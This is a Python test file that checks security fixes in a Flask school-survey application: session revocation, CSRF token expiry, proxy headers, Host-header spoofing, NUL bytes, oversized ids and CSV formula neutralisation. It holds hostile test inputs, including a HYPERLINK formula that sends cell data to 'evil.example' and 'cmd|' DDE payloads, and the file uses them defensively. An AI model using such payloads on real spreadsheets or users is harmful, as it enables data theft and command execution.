"""Issue 12, one test per finding: sessions, CSRF, proxies, survey links, hostile input, CSV cells,
settings. Runs on SQLite and, with DATABASE_URL, on PostgreSQL."""
import csv
import datetime as dt
import io
import re
import time

import pytest
from flask import request
from itsdangerous import TimestampSigner, URLSafeTimedSerializer
from sqlalchemy import func, select

from climate.extensions import db
from climate.models import AccessCode, Administration, PlanItem, School
from tests.conftest import PASSWORD, _app_in_context

TOKEN_RE = re.compile(r'name="csrf_token" type="hidden" value="([^"]+)"|name="csrf_token" value="([^"]+)"')


def count(model, *where):
    return db.session.scalar(select(func.count()).select_from(model).where(*where))


def page_token(client, path):
    m = TOKEN_RE.search(client.get(path).get_data(as_text=True))
    return m.group(1) or m.group(2)


# --- sessions -------------------------------------------------------------------------------------

def copy_session(app, source):
    """A second browser holding a copy of `source`'s session cookie."""
    other = app.test_client()
    other.set_cookie("session", source.get_cookie("session").value)
    return other


def test_sign_out_ends_a_copied_session_cookie(app, client, auth, world):
    auth.sign_in(world.staff1.email)
    thief = copy_session(app, client)
    assert thief.get("/district/schools").status_code == 200
    auth.sign_out()
    assert thief.get("/district/schools").status_code == 302
    assert auth.sign_in(world.staff1.email).status_code == 302  # signing in again works


def test_password_change_ends_every_other_session(app, client, auth, world):
    auth.sign_in(world.staff1.email)
    second = app.test_client()
    second.post("/auth/sign-in", data={"email": world.staff1.email, "password": PASSWORD})
    copied = copy_session(app, client)
    assert second.get("/district/schools").status_code == 200
    new = "a brand new password 42"
    changed = client.post("/auth/password", data={"current": PASSWORD, "new": new, "confirm": new})
    assert changed.status_code == 302
    assert second.get("/district/schools").status_code == 302
    assert copied.get("/district/schools").status_code == 302
    assert client.get("/district/schools").status_code == 200  # the session that changed it goes on


def test_a_password_reset_by_district_staff_ends_the_principals_sessions(app, client, auth, world):
    principal = app.test_client()
    principal.post("/auth/sign-in", data={"email": world.principal_a.email, "password": PASSWORD})
    plan = f"/improve/schools/{world.school_a.id}/plan"
    assert principal.get(plan).status_code == 200
    auth.sign_in(world.staff1.email)
    assert client.post(f"/district/principals/{world.principal_a.id}/reset-password").status_code == 200
    assert principal.get(plan).status_code == 302


# --- CSRF -----------------------------------------------------------------------------------------

def aged_token(app, client, seconds):
    """A CSRF token for `client`'s session, as Flask-WTF would have made it `seconds` ago."""
    with client.session_transaction() as sess:
        raw = sess["csrf_token"]

    class Then(TimestampSigner):
        def get_timestamp(self):
            return int(time.time()) - seconds
    return URLSafeTimedSerializer(app.secret_key, salt="wtf-csrf-token", signer=Then).dumps(raw)


def test_a_token_from_before_sign_in_is_refused_after_it(csrf_app, world):
    client = csrf_app.test_client()
    before = page_token(client, "/auth/sign-in")
    signed_in = client.post("/auth/sign-in", data={"email": world.staff1.email, "password": PASSWORD,
                                                   "csrf_token": before})
    assert signed_in.status_code == 302
    refused = client.post("/auth/sign-out", data={"csrf_token": before})
    assert refused.status_code == 400 and "nothing was saved" in refused.get_data(as_text=True)
    assert client.get("/district/schools").status_code == 200
    assert client.post("/auth/sign-out", data={"csrf_token": page_token(client, "/auth/password")}).status_code == 302


def test_staff_tokens_expire_after_an_hour_respondent_tokens_after_two(csrf_app, world, administration, issue):
    assert csrf_app.config["CSRF_TIME_LIMIT_STAFF"] == 3600 and csrf_app.config["CSRF_TIME_LIMIT_RESPONDENT"] == 7200
    staff = csrf_app.test_client()
    staff.post("/auth/sign-in", data={"email": world.staff1.email, "password": PASSWORD,
                                      "csrf_token": page_token(staff, "/auth/sign-in")})
    page_token(staff, "/auth/password")
    old = staff.post("/auth/sign-out", data={"csrf_token": aged_token(csrf_app, staff, 3700)})
    assert old.status_code == 400 and "expired" in old.get_data(as_text=True)
    assert staff.post("/auth/sign-out", data={"csrf_token": aged_token(csrf_app, staff, 3000)}).status_code == 302

    code = issue(administration, world.school_a)[0]
    student = csrf_app.test_client()
    assert student.get(f"/s/{code}").status_code == 302  # the code enters the session, then leaves the URL
    page_token(student, "/s/consent")
    # A class period and more: still accepted on a respondent page.
    assert student.post("/s/consent", data={"choice": "yes",
                                            "csrf_token": aged_token(csrf_app, student, 5400)}).status_code == 302
    page_token(student, "/s/p/1")
    expired = student.post("/s/p/1", data={"S_CUL_01": "1", "csrf_token": aged_token(csrf_app, student, 7300)})
    text = expired.get_data(as_text=True)
    assert expired.status_code == 400 and "open too long" in text and "nothing was saved" in text


# --- behind a proxy -------------------------------------------------------------------------------

@pytest.fixture
def proxied_app(_schema):
    yield from _app_in_context(TRUSTED_PROXIES=1)


def add_probe(app):
    app.add_url_rule("/_probe", "probe", lambda: f"{request.remote_addr} {request.scheme} {request.host}")


FORWARDED = {"X-Forwarded-For": "203.0.113.7", "X-Forwarded-Proto": "https", "X-Forwarded-Host": "survey.example.org"}


def test_client_address_scheme_and_host_come_through_one_trusted_proxy(proxied_app):
    add_probe(proxied_app)
    response = proxied_app.test_client().get("/_probe", headers=FORWARDED, environ_base={"REMOTE_ADDR": "10.0.0.2"})
    assert response.get_data(as_text=True) == "203.0.113.7 https survey.example.org"
    assert response.headers["Strict-Transport-Security"] == "max-age=31536000"


def test_forwarded_headers_are_ignored_without_a_trusted_proxy(app):
    add_probe(app)
    response = app.test_client().get("/_probe", headers=FORWARDED, environ_base={"REMOTE_ADDR": "10.0.0.2"})
    assert response.get_data(as_text=True) == "10.0.0.2 http localhost"
    assert "Strict-Transport-Security" not in response.headers


# --- survey links ---------------------------------------------------------------------------------

def test_slips_codes_csv_and_open_links_never_use_the_host_header(app, client, administration, world):
    app.config["PUBLIC_BASE_URL"] = "https://survey.example.org"
    evil = {"environ_overrides": {"HTTP_HOST": "evil.example"}}
    client.post("/auth/sign-in", data={"email": world.staff1.email, "password": PASSWORD}, **evil)
    url = f"/administrations/{administration.id}/codes"
    sheet = client.post(url, data={"school": world.school_a.id, "group": "student", "count": 3, "output": "sheet"},
                        **evil).get_data(as_text=True)
    download = client.post(url, data={"school": world.school_a.id, "group": "student", "count": 2, "output": "csv"},
                           **evil).get_data(as_text=True)
    client.post(f"/administrations/{administration.id}/open-links", data={"school": world.school_a.id,
                                                                         "group": "parent"}, **evil)
    detail = client.get(f"/administrations/{administration.id}", **evil).get_data(as_text=True)
    again = client.get(f"{url}/sheet?school={world.school_a.id}&group=student", **evil).get_data(as_text=True)
    for text in (sheet, download, detail, again):
        assert "evil.example" not in text
    assert sheet.count('href="https://survey.example.org/s/') == 3
    links = [r["link"] for r in csv.DictReader(io.StringIO(download))]
    assert len(links) == 2 and all(link.startswith("https://survey.example.org/s/") for link in links)
    assert "https://survey.example.org/o/" in detail


def test_climate_codes_links_use_the_public_base_url(app, runner, administration, world):
    app.config["PUBLIC_BASE_URL"] = "http://127.0.0.1:5101"
    result = runner.invoke(args=["codes", administration.name, "--school", "School A", "--group", "student",
                                 "--count", "3"])
    assert result.exit_code == 0, result.output
    links = [row["link"] for row in csv.DictReader(io.StringIO(result.output))]
    assert len(links) == 3 and all(link.startswith("http://127.0.0.1:5101/s/") for link in links)


def test_public_base_url_must_be_a_web_address(monkeypatch, tmp_path):
    from climate.config import ConfigError, load_config
    monkeypatch.setenv("PUBLIC_BASE_URL", "survey.example.org")
    with pytest.raises(ConfigError, match="PUBLIC_BASE_URL .* is not a web address"):
        load_config(str(tmp_path))
    monkeypatch.setenv("PUBLIC_BASE_URL", "https://survey.example.org/")
    assert load_config(str(tmp_path))["PUBLIC_BASE_URL"] == "https://survey.example.org"


# --- hostile input: NUL bytes, huge ids, far dates ------------------------------------------------

def assert_nul_refused(response):
    assert response.status_code == 400, response.status_code
    assert "NUL character" in response.get_data(as_text=True)


def test_nul_bytes_are_refused_everywhere_with_a_message(client, auth, administration, world):
    assert_nul_refused(client.post("/auth/sign-in", data={"email": "a\x00@b.example", "password": "x"}))
    assert_nul_refused(client.get("/o/%00"))
    assert_nul_refused(client.get("/s/AB%00CD"))
    assert_nul_refused(client.get("/auth/sign-in?next=/%00"))
    auth.sign_in(world.staff1.email)
    schools, admins = count(School), count(Administration)
    assert_nul_refused(client.post("/district/schools/new", data={
        "name": "Nul\x00School", "level": "middle", "grade_low": "6", "grade_high": "8"}))
    assert_nul_refused(client.post(f"/district/schools/{world.school_a.id}", data={
        "name": "School\x00A", "level": "middle", "grade_low": "6", "grade_high": "8"}))
    assert_nul_refused(client.post("/administrations/new", data={
        "name": "Spring\x00", "opens": "2030-03-01T08:00", "closes": "2030-03-20T17:00",
        "schools": [str(world.school_a.id)], "groups": ["student"]}))
    assert_nul_refused(client.post("/administrations/new", data={"name\x00": "x"}))
    item = PlanItem(school_id=world.school_a.id, administration_id=administration.id, kind="recommendation",
                    ref="custom", title="Greet every student", topics=[])
    db.session.add(item)
    db.session.commit()
    item_id = item.id
    assert_nul_refused(client.post(f"/improve/schools/{world.school_a.id}/plan/{item_id}", data={
        "owner": "", "notes": "notes\x00", "status": "planned", "due_on": ""}))
    assert_nul_refused(client.post("/improve/sro", data={"has_sro": "yes", "notes-mou": "x\x00"}))
    assert count(School) == schools and count(Administration) == admins
    assert db.session.get(PlanItem, item_id).notes == ""
    assert db.session.get(School, world.school_a.id).name == "School A"


def with_ids(rule, value) -> str:
    """The rule's path with every int part `value` and every other part "x"."""
    return re.sub(r"<(?:(\w+)(?:\([^)]*\))?:)?\w+>", lambda m: str(value) if m.group(1) == "int" else "x", rule.rule)


def test_every_int_id_route_refuses_ids_no_column_can_hold(app, client, auth, world):
    rules = [r for r in app.url_map.iter_rules() if "<int:" in r.rule]
    assert len(rules) >= 11
    auth.sign_in(world.staff1.email)
    for rule in rules:
        for huge in (2**31, 2**63, 10**30):
            for method in sorted(rule.methods - {"HEAD", "OPTIONS"}):
                response = client.open(with_ids(rule, huge), method=method)
                assert response.status_code == 404, (method, rule.rule, huge, response.status_code)
    assert client.get(f"/district/schools/{2**31 - 1}").status_code == 404  # the largest id is looked up


def test_query_string_ids_beyond_an_integer_column_are_no_page(client, auth, administration, world):
    auth.sign_in(world.staff1.email)
    for path in (f"/reports/schools/{world.school_a.id}/parents?administration={2**63}",
                 f"/administrations/{administration.id}/codes.csv?school={2**31}&group=student",
                 f"/reports/comparison?administration={'9' * 5000}"):
        response = client.get(path)
        assert response.status_code == 404 and "There is no record with that number." in response.get_data(as_text=True)


def test_a_number_too_long_to_compare_gets_a_message(client, auth, world):
    auth.sign_in(world.staff1.email)
    response = client.post(f"/district/schools/{world.school_a.id}", data={
        "name": "School A", "level": "middle", "grade_low": "6", "grade_high": "8", "enrollment_student": "9" * 400})
    assert response.status_code == 400 and "Enter a smaller whole number." in response.get_data(as_text=True)
    assert db.session.get(School, world.school_a.id).enrollment_student == 200


def admin_form(world, **fields):
    data = {"name": "Far dates", "opens": "2030-03-01T08:00", "closes": "2030-03-20T17:00",
            "schools": [str(world.school_a.id)], "groups": ["student"]}
    data.update(fields)
    return data


@pytest.mark.parametrize("fields", [
    {"opens": "0001-01-01T00:00"}, {"closes": "9999-12-31T23:59"},
    {"opens": "9999-01-01T00:00", "closes": "9999-12-31T23:59"},
])
def test_far_open_and_close_dates_are_refused_with_a_message(client, auth, world, fields):
    auth.sign_in(world.staff1.email)
    response = client.post("/administrations/new", data=admin_form(world, **fields))
    year = dt.date.today().year
    assert response.status_code == 400
    assert f"Enter a date between {year - 10} and {year + 10}." in response.get_data(as_text=True)
    assert count(Administration) == 0


def test_extending_to_9999_is_refused_with_a_message(client, auth, administration, world):
    auth.sign_in(world.staff1.email)
    closes = administration.closes_at
    response = client.post(f"/administrations/{administration.id}/extend", data={"closes": "9999-12-31T23:59"})
    assert response.status_code == 400 and "Enter a date between" in response.get_data(as_text=True)
    assert db.session.get(Administration, administration.id).closes_at == closes


# --- CSV cells that a spreadsheet would run -------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def cells_of(text):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_neutralised(text):
    cells = cells_of(text)
    assert "'" + FORMULA in cells
    assert not any(c.startswith(("=", "@", "\t", "\r")) for c in cells)
    assert not any(c[:1] in ("+", "-") and not re.match(r"^[+-][\d.]", c) for c in cells)


def test_safe_cell_neutralises_text_and_keeps_numbers():
    from climate.csvsafe import safe_cell
    for text in ("=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(text) == "'" + text
    for kept in (-1.5, -3, "-0.25", "+15 ± 13 above", "-3.5%", "1e-3", "School A", ""):
        assert safe_cell(kept) == kept


@pytest.fixture
def hostile_names(administration, world, scored_run):
    """School A and the administration named with a spreadsheet formula, filled and scored."""
    world.school_a.name = FORMULA
    administration.name = FORMULA
    db.session.commit()

    counts = {(world.school_a.id, "student"): 160, (world.school_b.id, "student"): 90}
    scored_run("test_hardening.hostile_names", counts, seed=5)
    return administration


def test_codes_csv_neutralises_formulas(hostile_names, client, auth, world, runner):
    auth.sign_in(world.staff1.email)
    download = client.post(f"/administrations/{hostile_names.id}/codes", data={
        "school": world.school_a.id, "group": "student", "count": 2, "output": "csv"})
    assert_neutralised(download.get_data(as_text=True))
    cli = runner.invoke(args=["codes", str(hostile_names.id), "--school", str(world.school_a.id),
                              "--group", "student", "--count", "1"])
    assert cli.exit_code == 0, cli.output
    assert_neutralised(cli.output)


def test_response_export_csv_neutralises_formulas(hostile_names, client, auth, world):
    auth.sign_in(world.staff1.email)
    response = client.get(f"/exports/administrations/{hostile_names.id}/student/restricted/responses.csv")
    assert response.status_code == 200
    assert_neutralised(response.get_data(as_text=True))


def test_group_results_csv_neutralises_formulas(hostile_names, client, auth, world):
    auth.sign_in(world.staff1.email)
    response = client.get(f"/exports/administrations/{hostile_names.id}/results.csv")
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    assert_neutralised(text)


def test_comparison_csv_neutralises_formulas_and_keeps_signed_differences(hostile_names, client, auth, world):
    auth.sign_in(world.staff1.email)
    response = client.get(f"/reports/comparison.csv?administration={hostile_names.id}&group=student&view=difference")
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    assert_neutralised(text)
    assert any(re.match(r"^-\d+ ± \d+", c) for c in cells_of(text))  # differences stay as written


# --- numeric settings -----------------------------------------------------------------------------

@pytest.mark.parametrize("name, value", [
    ("SUPPRESSION_MIN", "ten"), ("SUPPRESSION_MIN", "1e3"), ("TRUSTED_PROXIES", "two"), ("TRUSTED_PROXIES", "-1"),
    ("CSRF_TIME_LIMIT_STAFF", "an hour"), ("CSRF_TIME_LIMIT_RESPONDENT", "2h"),
])
def test_a_wrong_numeric_setting_gives_one_sentence_and_a_non_zero_exit(monkeypatch, capsys, name, value):
    from climate.cli import main
    monkeypatch.setenv(name, value)
    with pytest.raises(SystemExit) as stopped:
        main(["routes"])
    err = capsys.readouterr().err
    assert stopped.value.code != 0
    assert "Traceback" not in err and len(err.strip().splitlines()) == 1
    assert err.startswith(f"Error: {name} must be a whole number from ")


def test_demo_prints_the_port_it_serves_in_every_link(tmp_path, command_demo):
    """`climate demo --port N` (on the demo seeded once per run): every address it prints points at
    port N, and N answers."""
    import os
    import socket
    import subprocess
    import sys
    import urllib.error
    import urllib.request
    from pathlib import Path

    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    env = {k: v for k, v in os.environ.items() if k not in ("DATABASE_URL", "SECRET_KEY", "PUBLIC_BASE_URL")}
    env["CLIMATE_INSTANCE_PATH"] = str(command_demo.copy(tmp_path))
    demo = subprocess.Popen([sys.executable, "-m", "climate.cli", "demo", "--port", str(port)],
                            cwd=Path(__file__).resolve().parents[2], env=env, stdout=subprocess.PIPE,
                            stderr=subprocess.DEVNULL, text=True)
    try:
        lines = []
        for line in demo.stdout:
            lines.append(line)
            if line.startswith("Serving on"):
                break
        links = re.findall(r"https?://[^\s)]+", "".join(lines))
        assert len(links) >= 4, lines
        assert all(link.startswith(f"http://127.0.0.1:{port}/") for link in links), links
        survey = next(link for link in links if "/s/" in link)
        for _ in range(50):
            try:
                with urllib.request.urlopen(survey, timeout=5) as reply:
                    assert reply.status == 200
                break
            except urllib.error.HTTPError:
                raise
            except OSError:  # not listening yet
                time.sleep(0.2)
        else:
            pytest.fail("the demo did not answer on its port")
    finally:
        demo.terminate()
        demo.wait(timeout=30)
